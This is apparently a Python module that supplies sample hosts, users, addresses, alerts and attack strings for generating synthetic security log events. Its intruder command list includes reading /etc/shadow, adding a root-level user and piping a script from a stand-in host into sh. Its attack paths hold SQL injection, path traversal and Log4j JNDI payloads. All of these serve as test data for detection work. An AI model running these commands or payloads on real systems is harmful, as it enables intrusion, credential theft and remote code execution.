"""Who appears in the sample events: hosts, users, addresses and what their senders write about them."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from random import Random
from typing import Final, TypeVar

Item = TypeVar("Item")

BASTIONS: Final = ("bastion-01", "bastion-02", "sshd-01", "sshd-02", "sshd-03", "db-01-sshd")
WEB_SERVERS: Final = ("web-01", "web-02", "web-03", "web-04", "api-01", "api-02")
FIREWALLS: Final = ("fw-edge-01", "fw-edge-02", "fw-core-01")
SENSORS: Final = ("ids-sensor-01", "ids-sensor-02", "ids-dmz-01")
WAFS: Final = ("waf-01", "waf-02")
SOURCES: Final = BASTIONS + WEB_SERVERS + FIREWALLS + SENSORS + WAFS

STAFF: Final = ("deploy", "maria.keller", "j.okafor", "backup", "ansible", "s.lindqvist", "p.novak", "ci-runner")
GUESSED_USERS: Final = ("root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "pi", "user", "ftpuser")
COMMANDS: Final = (
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get upgrade",
    "/usr/bin/journalctl -u sshd",
    "/usr/bin/rsync -a /srv/www/ backup:/srv/www/",
)
INTRUDER_COMMANDS: Final = (
    "/bin/cat /etc/shadow",
    "/usr/sbin/useradd -o -u 0 support",
    "/bin/bash -c 'curl http://198.18.66.6/x.sh | sh'",
    "/usr/bin/crontab -e",
)
PAGES: Final = ("/", "/login", "/products?page=3", "/api/v2/orders", "/static/app.7f3c.js", "/search?q=router", "/cart")
ATTACK_PATHS: Final = (
    ("/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", 2006446, "SQL injection UNION SELECT"),
    ("/../../../../etc/passwd", 2049400, "path traversal to /etc/passwd"),
    ("/?x=${jndi:ldap://198.18.66.6:1389/a}", 2034647, "Log4j JNDI lookup (CVE-2021-44228)"),
    ("/wp-login.php", 2019881, "WordPress login guessing"),
    ("/.env", 2031502, "request for .env file"),
    ("/cgi-bin/.%2e/.%2e/bin/sh", 2034124, "Apache path traversal (CVE-2021-41773)"),
)
AGENTS: Final = (
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/139.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1) Safari/605.1",
    "curl/8.14.1",
    "Googlebot/2.1",
)
SCANNER_AGENTS: Final = ("sqlmap/1.9", "Nuclei/3.4", "python-requests/2.32", "masscan/1.3")
SCANNED_PORTS: Final = (21, 22, 23, 25, 80, 110, 139, 443, 445, 1433, 2375, 3306, 3389, 5432, 5900, 6379, 8080, 9200)
LOW_ALERTS: Final = (
    (2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak"),
    (2100366, "GPL ICMP PING *NIX", "Misc activity"),
    (2027758, "ET DNS Query for .cc TLD", "Potentially Bad Traffic"),
    (2210045, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode"),
)
# Sample places, one for each block of outside addresses: country, city, autonomous system.
PLACES: Final = (
    ("NL", "Amsterdam", 64496),
    ("US", "Ashburn", 64497),
    ("BR", "São Paulo", 64498),
    ("CN", "Chengdu", 64499),
    ("RU", "Kazan", 64500),
    ("DE", "Frankfurt", 64501),
    ("VN", "Hà Nội", 64502),
    ("IN", "Mumbai", 64503),
)


class Dice:
    """The draws that the scenarios make, each from one `random()` call: `choice` and `randint` cost four times that."""

    __slots__ = ("random",)

    def __init__(self, rng: Random) -> None:
        self.random: Callable[[], float] = rng.random

    def pick(self, items: Sequence[Item]) -> Item:
        return items[int(self.random() * len(items))]

    def between(self, low: int, high: int) -> int:
        """A whole number from `low` to `high`, both included."""
        return low + int(self.random() * (high - low + 1))

    def chance(self, share: float) -> bool:
        return self.random() < share

    def port(self) -> int:
        return 32768 + int(self.random() * 28232)

    def inside(self) -> str:
        """An address of the sample company's own network."""
        return f"10.20.{int(self.random() * 8)}.{1 + int(self.random() * 250)}"

    def outside(self) -> str:
        """An address that belongs to nobody, so that no sample accuses a real host: RFC 2544 and RFC 3849 ranges."""
        draw = self.random()
        if draw < 0.06:
            return f"2001:db8:{int(draw * 1e6) & 0xFFF:x}::{int(self.random() * 0xFFFF):x}"
        return f"198.{18 + int(self.random() * 2)}.{int(draw * 250)}.{1 + int(self.random() * 250)}"


def place_of(address: str) -> dict[str, object]:
    """The same made-up country, city and autonomous system for the same address, every time."""
    country, city, system = PLACES[sum(address.encode()) % len(PLACES)]
    return {"country": country, "city": city, "asn": system}
